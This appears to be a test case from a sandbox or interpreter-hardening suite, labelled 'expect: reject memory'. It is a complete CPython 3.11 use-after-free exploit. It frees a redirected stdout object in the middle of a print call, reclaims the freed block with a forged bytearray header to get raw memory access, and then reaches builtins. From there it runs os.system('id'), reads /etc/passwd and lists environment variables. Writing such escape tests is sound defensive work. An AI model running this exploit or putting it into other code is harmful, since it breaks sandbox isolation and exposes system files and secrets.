# expect: reject memory
# line: 25
# why: round 77: an argument's __str__ closes an ExitStack holding redirect_stdout(F()); print goes on writing to the freed F, reclaimed as a forged bytearray, then id (verified under 3.11.2)
# mechanism: print() keeps sys.stdout as a borrowed pointer (gh-130163, never fixed in 3.11); an argument's __str__ closes an ExitStack holding redirect_stdout(F()), freeing F mid-print, so the separator write calls F.write on the freed F (zombie self stashed), a bytearray reclaims its block and forges a bytearray header: raw memory, builtins dict, id.
import contextlib
import struct


class F:
    __slots__ = ("a", "b", "c", "d", "e", "f")

    def write(self, s):
        calls.append(s)
        if len(calls) > 1:
            got.append(self)
        return len(s)

    def flush(self):
        pass


got = []
calls = []
stack = contextlib.ExitStack()
stack.enter_context(contextlib.redirect_stdout(F()))


class Obj:
    def __str__(self):
        stack.close()
        return "x"


def w8(v):
    return v.to_bytes(8, "little")


print(Obj(), "y")
z = got[-1]
hdr = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
payload = bytes(16) + hdr + bytes(79 - 16 - len(hdr))
keep = []
for i in range(2000):
    keep.append(bytearray(payload))
    if type(z) is bytearray:
        break
mem = z
print(type(mem).__name__, "after", len(keep))
a = id(w8) + 24
target = sum([mem[a + i] << (8 * i) for i in range(8)])
cell = [None]
count = sum([mem[target + i] << (8 * i) for i in range(8)])
mem[target:target + 8] = w8(count + 1)
b = id(cell) + 24
slot = sum([mem[b + i] << (8 * i) for i in range(8)])
mem[slot:slot + 8] = w8(target)
table = cell[0]
print(type(table).__name__, len(table))
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:120])
print("environ:", sorted(osm.environ)[:8], len(osm.environ))
